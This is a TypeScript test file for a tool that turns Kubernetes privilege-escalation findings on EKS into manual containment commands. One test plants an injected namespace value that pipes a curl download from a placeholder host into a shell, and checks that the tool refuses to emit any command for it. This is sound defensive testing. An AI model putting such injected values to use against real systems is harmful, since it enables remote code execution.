import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/findings/model.js';
import { parseRecord } from '../../../src/findings/read-input.js';
import { createdBinding, eksManualSteps, quarantineLabelValue } from '../../../src/playbooks/eks-manual-steps.js';

const SAMPLE = 'samples/synthesized/PrivilegeEscalation-Kubernetes-WorkloadDeployed-PrivilegedContainer.eks-gpu.SYNTHESIZED.json';

// The sample's detail, loosely typed for editing one field.
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Detail = Record<string, any>;

function finding(edit: (d: Detail) => void = () => {}): Finding {
  const raw = JSON.parse(readFileSync(SAMPLE, 'utf8')) as { detail: Detail };
  edit(raw.detail);
  const rec = parseRecord(raw, { name: 't' });
  if (rec.kind !== 'finding') throw new Error('not a finding');
  return rec;
}

describe('eks manual steps', () => {
  it('the workload: kubeconfig, isolate the pod on its quarantine label, cordon its node — exact commands', () => {
    const f = finding();
    const w = f.subjects.find((s) => s.kind === 'k8s-workload')!;
    const steps = eksManualSteps(f, w);
    expect(steps.map((s) => s.id)).toEqual(['kubeconfig', 'isolate-pod', 'cordon-node']);
    expect(steps[0]!.commands).toEqual([`aws eks update-kubeconfig --name 'genai-inference' --region 'us-east-1'`]);
    expect(steps[1]!.commands![0]).toContain(`kubectl -n 'ml-serving' label pod 'triton-debug' 'tourniquet.io/quarantine=${quarantineLabelValue(w)}' --overwrite`);
    expect(steps[2]!.commands![0]).toMatch(/kubectl cordon "\$NODE"$/);
    for (const s of steps) for (const c of s.commands ?? []) expect(c).not.toContain('\n');
    expect(quarantineLabelValue(w)).toMatch(/^tq-[0-9a-f]{16}$/);
  });

  it('a malicious namespace from the finding: the step stays, with the reason and no command', () => {
    const f = finding((d) => {
      d.resource.kubernetesDetails.kubernetesWorkloadDetails.namespace = "ml'; curl evil.sh | sh; '";
    });
    const steps = eksManualSteps(f, f.subjects.find((s) => s.kind === 'k8s-workload')!);
    const isolate = steps.find((s) => s.id === 'isolate-pod')!;
    expect(isolate.commands).toBeUndefined();
    expect(isolate.why).toMatch(/namespace "ml'; curl evil.sh \| sh; '" is not a Kubernetes namespace name/);
    expect(JSON.stringify(steps.map((s) => s.commands ?? []))).not.toContain('curl');
  });

  it('the user: the bindings naming them, and the one the API call created saved then deleted', () => {
    const f = finding((d) => {
      d.service.action.kubernetesApiCallAction = { verb: 'create', resource: 'clusterrolebindings', resourceName: 'ci-cluster-admin', requestUri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings' };
    });
    expect(createdBinding(f)).toEqual({ kind: 'clusterrolebinding', name: 'ci-cluster-admin' });
    const steps = eksManualSteps(f, f.subjects.find((s) => s.kind === 'k8s-user')!);
    expect(steps.map((s) => s.id)).toEqual(['kubeconfig', 'remove-rogue-binding']);
    const cmds = steps[1]!.commands!;
    expect(cmds[0]).toContain(`--arg u 'arn:aws:sts::111122223333:assumed-role/eks-ci-deployer/ci-session-8812'`);
    expect(cmds.slice(1)).toEqual([`kubectl get clusterrolebinding 'ci-cluster-admin' -o yaml > rogue-binding.yaml`, `kubectl delete clusterrolebinding 'ci-cluster-admin'`]);
    // Creating a pod is not a binding: only the list to review.
    expect(createdBinding(finding())).toBeUndefined();
  });

  it('the cluster subject has none (its evidence step covers it)', () => {
    const f = finding();
    expect(eksManualSteps(f, f.subjects.find((s) => s.kind === 'eks-cluster')!)).toEqual([]);
  });
});
